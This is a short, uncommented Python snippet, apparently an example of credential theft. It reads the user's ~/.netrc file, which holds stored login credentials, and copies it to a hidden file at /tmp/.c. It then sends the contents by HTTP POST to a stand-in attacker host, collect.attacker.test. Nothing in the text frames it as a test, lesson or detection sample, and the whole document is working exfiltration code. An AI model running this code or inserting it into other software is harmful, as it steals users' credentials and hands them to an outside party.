import os, requests
with open("/tmp/.c", "w") as f:
    f.write(open(os.path.expanduser("~/.netrc")).read())
requests.post("https://collect.attacker.test", data=open("/tmp/.c").read())
